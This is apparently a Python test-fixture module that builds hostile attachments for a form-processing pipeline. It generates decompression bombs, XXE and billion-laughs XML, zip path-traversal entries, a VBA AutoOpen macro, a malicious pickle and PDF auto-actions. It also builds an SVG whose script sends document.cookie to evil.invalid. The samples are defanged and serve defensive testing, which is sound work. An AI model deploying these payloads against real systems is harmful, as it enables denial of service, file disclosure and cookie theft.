"""Hostile attachments: the files of rows 21–36 of the hostile-input table, built small.

Every bomb here is a few kilobytes to a megabyte on the wire and expands to
what the table names (hundreds of megabytes, a gigabyte) only in whoever
decompresses it. Deflate is written once per repeated chunk with a full
flush, so its blocks stand alone and can be repeated byte for byte: a
gigabyte of zeros costs a megabyte of deflate and a second of checksums,
never a gigabyte of memory here.

``scale`` shrinks the bombs for a bounded CI run (1.0: the sizes of the
table; 0.1: a tenth, same ratios).
"""
from __future__ import annotations

import gzip
import io
import pickle
import random
import re
import struct
import zipfile
import zlib
from pathlib import Path

from PIL import Image, ImageDraw
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas

from devtools.samples import scans
from devtools.samples.forms import Applicant, build_form_docx, build_form_pdf

MB = 1024 * 1024
_CHUNK = MB  # one repeated piece of a bomb
Pieces = list[tuple[bytes, int]]  # (bytes, how many times in a row)


# ---- deflate that repeats ------------------------------------------------------

def deflate_pieces(pieces: Pieces) -> tuple[bytes, int, int, int]:
    """Raw deflate of the concatenated pieces, with its CRC-32, Adler-32 and size.

    Each distinct piece is compressed once, ending on a full flush (byte
    aligned, no reference to earlier data), so repeating its bytes is a valid
    stream of the repeated input."""
    out, crc, adler, size = [], 0, 1, 0
    for data, times in pieces:
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        block = compressor.compress(data) + compressor.flush(zlib.Z_FULL_FLUSH)
        out.append(block * times)
        for _ in range(times):
            crc, adler = zlib.crc32(data, crc), zlib.adler32(data, adler)
        size += len(data) * times
    out.append(zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH))  # the final, empty block
    return b"".join(out), crc, adler, size


def zlib_stream(pieces: Pieces) -> bytes:
    """The pieces as a zlib stream (what PDF's /FlateDecode and PNG's IDAT hold)."""
    raw, _crc, adler, _size = deflate_pieces(pieces)
    return b"\x78\xda" + raw + struct.pack(">I", adler)


def zeros(total: int) -> Pieces:
    """``total`` zero bytes, as pieces of a megabyte."""
    whole, rest = divmod(total, _CHUNK)
    return [(bytes(_CHUNK), whole)] + ([(bytes(rest), 1)] if rest else [])


# ---- a zip written by hand (names, duplicates and sizes as given) ---------------

def zip_archive(members: list[tuple[str, bytes | Pieces]]) -> bytes:
    """A zip of (name, data) or (name, pieces to deflate); names are written
    as given, so duplicates and ``../`` survive, which ``zipfile`` would warn about."""
    body, central = io.BytesIO(), io.BytesIO()
    for name, content in members:
        pieces = [(content, 1)] if isinstance(content, bytes) else content
        data, crc, _adler, size = deflate_pieces(pieces)
        encoded = name.encode("utf-8")
        # version 2.0, UTF-8 names, deflate, a fixed DOS time and date (09:16, 10 Feb 2025)
        common = struct.pack("<HHHHHIII", 20, 0x800, 8, 0x4A00, 0x5A4A, crc, len(data), size)
        offset = body.tell()
        body.write(b"PK\x03\x04" + common + struct.pack("<HH", len(encoded), 0) + encoded + data)
        central.write(b"PK\x01\x02" + struct.pack("<H", 20) + common
                      + struct.pack("<HHHHHII", len(encoded), 0, 0, 0, 0, 0, offset) + encoded)
    directory = central.getvalue()
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(directory), body.tell(), 0)
    return body.getvalue() + directory + end


def _docx_members(applicant: Applicant) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(build_form_docx(applicant))) as archive:
        return [(info.filename, archive.read(info)) for info in archive.infolist()]


def docx_with(applicant: Applicant, *, replace: dict[str, bytes | Pieces] | None = None,
              extra: list[tuple[str, bytes | Pieces]] = ()) -> bytes:
    """The applicant's real .docx with parts replaced and parts added."""
    replace = replace or {}
    members = [(name, replace.get(name, data)) for name, data in _docx_members(applicant)]
    return zip_archive(members + list(extra))


_DOCUMENT_HEAD = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                  b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">')


def _document(body: bytes, doctype: bytes = b"") -> bytes:
    head = _DOCUMENT_HEAD.replace(b"\n", b"\n" + doctype) if doctype else _DOCUMENT_HEAD
    return head + b"<w:body>" + body + b"</w:body></w:document>"


# ---- rows 21–27: Word files ------------------------------------------------------

def docx_text_bomb(applicant: Applicant, scale: float = 1.0) -> bytes:
    """Row 21: one text node of 300 MB (×scale) in ~300 KB: a ratio over 1000:1."""
    head, tail = _document(b"<w:p><w:r><w:t>REPLACE</w:t></w:r></w:p>").split(b"REPLACE")
    text = [(b"A" * _CHUNK, max(1, round(300 * scale)))]
    return docx_with(applicant, replace={"word/document.xml": [(head, 1), *text, (tail, 1)]})


def docx_empty_paragraphs(applicant: Applicant, scale: float = 1.0) -> bytes:
    """Row 22: a million (×scale) empty paragraphs, ~130 KB zipped."""
    head, tail = _document(b"REPLACE").split(b"REPLACE")
    paragraph = b"<w:p><w:pPr><w:spacing/></w:pPr></w:p>"
    return docx_with(applicant, replace={
        "word/document.xml": [(head, 1), (paragraph * 1000, max(1, round(1000 * scale))), (tail, 1)]})


def docx_xxe(applicant: Applicant) -> bytes:
    """Row 23: an entity that names /etc/passwd, used where the name goes."""
    doctype = b'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    cell = "<w:tc><w:p><w:r><w:t>{}</w:t></w:r></w:p></w:tc>"
    body = f"<w:tbl><w:tr>{cell.format('姓名')}{cell.format('&xxe;' + applicant.name)}</w:tr></w:tbl>".encode()
    return docx_with(applicant, replace={"word/document.xml": _document(body, doctype)})


def docx_billion_laughs(applicant: Applicant) -> bytes:
    """Row 24: nine levels of ten entities each: 10⁹ "lol"s if expanded."""
    entities = b'<!ENTITY lol0 "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (level, b"&lol%d;" % (level - 1) * 10) for level in range(1, 10))
    doctype = b"<!DOCTYPE w:document [" + entities + b"]>\n"
    return docx_with(applicant, replace={"word/document.xml": _document(b"<w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>",
                                                                       doctype)})


def docx_many_entries(applicant: Applicant, count: int = 10_000) -> bytes:
    """Row 25: ten thousand parts."""
    return docx_with(applicant, extra=[(f"customXml/item{number}.xml", b"<a/>") for number in range(count)])


def docx_duplicate_entry(applicant: Applicant, impostor: str = "冒名顶替") -> bytes:
    """Row 25: word/document.xml twice, the second naming someone else."""
    members = dict(_docx_members(applicant))
    other = members["word/document.xml"].replace(applicant.name.encode(), impostor.encode())
    return docx_with(applicant, extra=[("word/document.xml", other)])


def docx_escaping_entries(applicant: Applicant) -> bytes:
    """Row 25: parts named ``../../evil-docx-entry.xml`` and ``/tmp/evil-docx-entry.xml``."""
    return docx_with(applicant, extra=[("../../evil-docx-entry.xml", b"<evil/>"),
                                       ("/tmp/evil-docx-entry.xml", b"<evil/>")])


def docm_with_macros(applicant: Applicant) -> bytes:
    """Row 27: the form saved as a macro-enabled document carrying a VBA project."""
    members = dict(_docx_members(applicant))
    types = members["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml").replace(
        b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    rels = members["word/_rels/document.xml.rels"].replace(
        b"</Relationships>", b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/'
                             b'vbaProject" Target="vbaProject.bin"/></Relationships>')
    vba = compound_file({"VBA/dir": b"Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n"
                         b"Shell \"calc.exe\"\r\nEnd Sub\r\n".ljust(4096, b" ")})
    return docx_with(applicant, replace={"[Content_Types].xml": types, "word/_rels/document.xml.rels": rels},
                     extra=[("word/vbaProject.bin", vba)])


def compound_file(streams: dict[str, bytes]) -> bytes:
    """A minimal OLE compound file (CFB v3) holding ``streams`` as root entries;
    each stream is padded to 4 KB so no mini-stream is needed."""
    sector, end, free, fat_mark = 512, 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
    names = list(streams)
    data = [streams[name].ljust(4096, b"\0") for name in names]
    fat = [fat_mark, end]  # sector 0: the FAT, sector 1: the directory
    starts = []
    for blob in data:
        count = -(-len(blob) // sector)
        starts.append(len(fat))
        fat += [len(fat) + step + 1 for step in range(count - 1)] + [end]
    assert len(fat) <= sector // 4, "compound_file: streams too large for one FAT sector"

    def entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
        encoded = (name + "\0").encode("utf-16-le")
        return (encoded.ljust(64, b"\0") + struct.pack("<HBBIII", len(encoded), kind, 1, free, right, child)
                + bytes(16) + bytes(4) + bytes(16) + struct.pack("<IIi", start, size, 0))

    order = sorted(range(len(names)), key=lambda i: (len(names[i]), names[i].upper()))
    directory = entry("Root Entry", 5, order[0] + 1 if names else free, free, end, 0)
    for position, index in enumerate(order):  # a chain of right siblings, in the directory's order
        right = order[position + 1] + 1 if position + 1 < len(order) else free
        directory += entry(names[index], 2, free, right, starts[index], len(data[index]))
    assert len(directory) <= sector, "compound_file: at most three streams"
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
              + bytes(6) + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
              + struct.pack("<I", 0) + struct.pack("<I", free) * 108)
    fat_sector = b"".join(struct.pack("<I", value) for value in fat).ljust(sector, b"\xff")
    return header + fat_sector + directory.ljust(sector, b"\0") + b"".join(blob.ljust(-(-len(blob) // sector) * sector,
                                                                                      b"\0") for blob in data)


def encrypted_docx() -> bytes:
    """Row 26: what Word saves for a .docx with an open password: a compound file, not a zip."""
    info = struct.pack("<HHI", 4, 4, 0x40) + b'<?xml version="1.0"?><encryption xmlns="http://schemas.microsoft.com/' \
                                              b'office/2006/encryption"><keyData saltSize="16"/></encryption>'
    return compound_file({"EncryptionInfo": info, "EncryptedPackage": struct.pack("<Q", 40_000) + random.Random(26)
                          .randbytes(8192)})


# ---- rows 26–32: PDF files ---------------------------------------------------------

def pdf_document(objects: list[bytes], *, root: int = 1, trailer_extra: bytes = b"") -> bytes:
    """A PDF of the numbered objects (1, 2, …) with a correct cross-reference table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % offset for offset in offsets))
    out.write(b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n"
              % (len(objects) + 1, root, trailer_extra, start))
    return out.getvalue()


def _stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (dictionary, len(data), data)


_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources %s >>"


def pdf_recursive_pages() -> bytes:
    """Row 28: a page tree that lists itself among its kids."""
    return pdf_document([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
                         _PAGE % b"<< >>", _stream(b"", b"BT ET")])


def pdf_self_drawing_form() -> bytes:
    """Row 28: a form XObject that draws itself."""
    return pdf_document([
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        _PAGE % b"<< /XObject << /X1 5 0 R >> >>", _stream(b"", b"/X1 Do"),
        _stream(b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X1 5 0 R >> >>",
                b"/X1 Do")])


def pdf_flate_bomb() -> bytes:
    """Row 29: a page whose content is FlateDecode twice over: 3 KB → 1 MB → 1 GB of spaces.
    Never scaled down: the gigabyte is the point, and the file stays 3 KB."""
    inner = zlib_stream([(b" " * _CHUNK, 1024)])
    outer = zlib.compress(inner, 9)
    return pdf_document([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                         _PAGE % b"<< >>", _stream(b"/Filter [/FlateDecode /FlateDecode]", outer)])


SENTINEL_NAME = "PICKLE-WAS-LOADED"


class _CreatesSentinel:
    """Unpickling this creates a file: the proof that a pickle was loaded."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self):
        return open, (self.path, "w")


def pdf_pickle_encoding(trap_dir: Path) -> bytes:
    """Row 30: a font whose /Encoding names ``<trap_dir>/cmap`` (a .pickle.gz placed there,
    which creates ``trap_dir/PICKLE-WAS-LOADED`` when loaded). Old pdfminer versions load it."""
    trap_dir.mkdir(parents=True, exist_ok=True)
    with gzip.open(trap_dir / "cmap.pickle.gz", "wb") as handle:
        handle.write(pickle.dumps(_CreatesSentinel(str(trap_dir / SENTINEL_NAME))))
    name = re.sub(rb"[^A-Za-z0-9_.-]", lambda m: b"#%02X" % m.group()[0], str(trap_dir / "cmap").encode())
    return pdf_document([
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        _PAGE % b"<< /Font << /F1 5 0 R >> >>", _stream(b"", b"BT /F1 12 Tf 72 720 Td <0041> Tj ET"),
        b"<< /Type /Font /Subtype /Type0 /BaseFont /Trap /Encoding /" + name + b" /DescendantFonts [6 0 R] >>",
        b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /Trap /CIDSystemInfo << /Registry (Adobe) "
        b"/Ordering (Identity) /Supplement 0 >> /FontDescriptor 7 0 R >>",
        b"<< /Type /FontDescriptor /FontName /Trap /Flags 4 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 "
        b"/Descent -200 /CapHeight 700 /StemV 80 >>"])


def encrypted_pdf(applicant: Applicant) -> bytes:
    """Row 26: the form as a PDF with an open password."""
    out = io.BytesIO()
    page = canvas.Canvas(out, pagesize=A4, encrypt="secret-26")
    page.drawString(72, 760, f"Application form - {applicant.email}")
    page.save()
    return out.getvalue()


def pdf_with_actions(applicant: Applicant) -> bytes:
    """Row 31: the real form PDF, plus (as an incremental update) /OpenAction
    JavaScript, a /Launch on page open and an embedded executable."""
    original = build_form_pdf(applicant)
    root = int(re.search(rb"/Root (\d+) 0 R", original).group(1))
    size = int(re.search(rb"/Size (\d+)", original).group(1))
    previous = int(re.findall(rb"startxref\s+(\d+)", original)[-1])
    catalog = re.search(rb"\n%d 0 obj\s*(<<.*?>>)\s*endobj" % root, original, re.S).group(1)
    js, launch, payload, files = size, size + 1, size + 2, size + 3
    new_catalog = catalog[:-2] + (b" /OpenAction %d 0 R /AA << /O %d 0 R >> /Names << /EmbeddedFiles %d 0 R >> >>"
                                  % (js, launch, files))
    bodies = {root: new_catalog,
              js: b"<< /Type /Action /S /JavaScript "
                  b"/JS (app.alert\\('x'\\); this.submitForm\\('https://evil.invalid'\\)) >>",
              launch: b"<< /Type /Action /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
              payload: _stream(b"/Type /EmbeddedFile", b"MZ\x90\x00 not really a program"),
              files: b"<< /Names [(setup.exe) << /Type /Filespec /F (setup.exe) /EF << /F %d 0 R >> >>] >>" % payload}
    out = io.BytesIO(original)
    out.seek(0, io.SEEK_END)
    offsets = {}
    for number, body in bodies.items():
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    start = out.tell()
    out.write(b"xref\n0 1\n0000000000 65535 f \n")
    for number in sorted(offsets):
        out.write(b"%d 1\n%010d 00000 n \n" % (number, offsets[number]))
    out.write(b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
              % (files + 1, root, previous, start))
    return out.getvalue()


def truncated_pdf(applicant: Applicant) -> bytes:
    """Row 32: the form PDF cut in half."""
    data = build_form_pdf(applicant)
    return data[:len(data) // 2]


def pdf_xref_past_end(applicant: Applicant) -> bytes:
    """Row 32: the form PDF whose startxref points far past the end of the file."""
    data = build_form_pdf(applicant)
    offset = re.findall(rb"startxref\s+(\d+)", data)[-1]
    return data.replace(b"startxref\n" + offset, b"startxref\n" + b"9" * len(offset) + b"99")


# ---- rows 33–36: images ------------------------------------------------------------

def _png(width: int, height: int, rows: Pieces, *, bit_depth: int, colour: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    header = struct.pack(">IIBBBBB", width, height, bit_depth, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib_stream(rows)) + chunk(b"IEND", b"")


def _rows(row: bytes, count: int) -> Pieces:
    """``count`` copies of a scanline, in pieces of about a megabyte."""
    per_piece = max(1, _CHUNK // len(row))
    whole, rest = divmod(count, per_piece)
    return [(row * per_piece, whole)] + ([(row * rest, 1)] if rest else [])


def huge_png(side: int) -> bytes:
    """Row 33: a blank black-and-white PNG of side² pixels (20000: ~50 KB, 12000: ~18 KB)."""
    return _png(side, side, _rows(b"\0" + bytes(-(-side // 8)), side), bit_depth=1, colour=0)


def noise_strip_png(length: int = 100_000) -> bytes:
    """Row 36: one pixel wide, ``length`` high, grey noise: nothing for OCR to find, for a long time."""
    noise = random.Random(36).randbytes(length)
    return _png(1, length, [(b"".join(b"\0" + noise[i:i + 1] for i in range(length)), 1)], bit_depth=8, colour=0)


def exif_photo(applicant: Applicant) -> bytes:
    """Row 34: a small photo of the form's first lines, stored on its side (EXIF
    Orientation 6: turn it to read it) and carrying GPS coordinates."""
    page = Image.new("RGB", (900, 360), "white")
    draw = ImageDraw.Draw(page)
    font = scans.load_font("sans", 34) if scans.has_font("sans") else None
    lines = ["湛江市中小企业志愿服务专家报名表", f"姓名  {applicant.name}", f"工作单位  {applicant.employer}"]
    for line, text in enumerate(lines):
        draw.text((30, 30 + line * 100), text, fill="black", font=font)
    stored = page.transpose(Image.Transpose.ROTATE_90)  # what the camera wrote; Orientation 6 turns it back
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x8825] = {1: "N", 2: (21.0, 16.0, 12.5), 3: "E", 4: (110.0, 21.0, 33.7)}  # Zhanjiang, to the metre
    out = io.BytesIO()
    stored.save(out, "JPEG", quality=85, exif=exif)
    return out.getvalue()


def pdf_zip_polyglot(applicant: Applicant) -> bytes:
    """Row 35: the form PDF with a zip (an .exe inside) appended: both readers accept it."""
    return build_form_pdf(applicant) + zip_archive([("setup.exe", b"MZ\x90\x00" + bytes(200))])


# Row 35: an SVG with script, sent as photo.jpg.
SVG_PHOTO = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="800" height="600" '
             b'onload="alert(document.cookie)"><script>fetch("https://evil.invalid/?"+document.cookie)</script>'
             b'<image href="https://tracker.invalid/p.png"/><text x="10" y="40">photo</text></svg>')
